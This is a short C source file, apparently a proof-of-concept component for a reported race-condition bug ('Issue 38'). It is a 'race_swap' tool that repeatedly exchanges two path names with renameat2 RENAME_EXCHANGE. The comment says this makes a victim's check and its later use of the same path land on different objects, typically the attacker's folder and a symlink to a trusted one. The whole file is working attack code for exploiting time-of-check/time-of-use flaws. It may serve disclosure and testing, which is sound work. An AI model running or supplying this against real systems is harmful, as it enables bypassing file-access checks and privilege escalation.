/* Issue 38's check/use race: exchanges two names in a tight loop (renameat2 RENAME_EXCHANGE), so
 * that a path the victim resolves twice leads to one object at its check and another at its use:
 * typically the attacker's own folder and a symbolic link to a folder that passes the checks.
 * Usage: race_swap NAME_A NAME_B SECONDS. Prints "racing" when it starts and the number of
 * exchanges at the end. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <time.h>

int main(int argc, char **argv) {
    if (argc != 4) return 2;
    time_t end = time(NULL) + atoi(argv[3]);
    unsigned long n = 0;
    printf("racing\n");
    fflush(stdout);
    while (time(NULL) < end) {
        if (renameat2(AT_FDCWD, argv[1], AT_FDCWD, argv[2], RENAME_EXCHANGE) != 0) { perror("renameat2"); return 1; }
        n++;
    }
    printf("%lu exchanges\n", n);
    return 0;
}
